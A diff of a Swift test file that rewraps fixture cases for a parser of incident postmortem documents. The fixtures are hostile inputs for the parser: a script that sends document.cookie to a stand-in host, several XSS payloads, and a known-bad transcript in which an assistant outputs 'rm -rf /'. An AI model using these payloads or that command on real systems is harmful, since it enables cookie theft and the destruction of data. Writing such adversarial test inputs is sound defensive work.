@@ -52,7 +52,8 @@ extension PostmortemDocument {
         "## Case\n\n````eval-case\nid: INC-66-fences\ntitle: Prints a fence\npattern: false-report\nowner: docs\ninput:\n  messages:\n    - user: |\n        ```eval-case\n        id: inner\n        ```\nexpected:\n  behavior: Prints no fence.\n  graders:\n    - not: {contains: \"```\"}\n    - contains: plain\nknown_bad:\n  - from: incident\n    transcript:\n      - assistant: \"```sh\\nrm -rf /\\n```\"\nknown_good:\n  - from: author\n    transcript:\n      - assistant: plain text\n````"
       ), .accepted, incident: "INC-66", severity: .s3, missing: [[]]),
     PostmortemDocument(
-      "a fence that is never closed", "INC-66.md", closed("## Case\n\n```eval-case\nid: INC-66-x\n"), .refused, .truncated,
+      "a fence that is never closed", "INC-66.md", closed("## Case\n\n```eval-case\nid: INC-66-x\n"), .refused,
+      .truncated,
       incident: "INC-66"),
     PostmortemDocument(
       "a path in the id of the incident", "a.md",
@@ -72,7 +73,8 @@ extension PostmortemDocument {
         "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n<iframe src=\"javascript:alert(1)\"></iframe>\n\n## Case\n\n**Input**: <img src=x onerror=alert(1)> is my order there?\n\n**Actual**: <b>Yes</b> <script>alert(2)</script>\n\n**Expected**: Looks it up."
       ), .incomplete, .missing, incident: "INC-66", severity: .s3, missing: [proof]),
     PostmortemDocument(
-      "a page of HTML", "page.html", "<!doctype html><html><body><h1>INC-66</h1><script>1</script></body></html>", .refused,
+      "a page of HTML", "page.html", "<!doctype html><html><body><h1>INC-66</h1><script>1</script></body></html>",
+      .refused,
       .unsupportedFormat),
     PostmortemDocument(
       "shell payloads", "INC-66.md",
@@ -90,7 +92,8 @@ extension PostmortemDocument {
       ), .incomplete, .missing, incident: "INC-66", severity: .s3, missing: [everything]),
     PostmortemDocument(
       "quotes five thousand deep", "INC-66.md",
-      closed("## Case\n\n" + String(repeating: ">", count: 5_000) + " The assistant told a lie."), .incomplete, .missing,
+      closed("## Case\n\n" + String(repeating: ">", count: 5_000) + " The assistant told a lie."), .incomplete,
+      .missing,
       incident: "INC-66", severity: .s3, missing: [everything]),
     PostmortemDocument(
       "lists that go on and on", "INC-66.md",
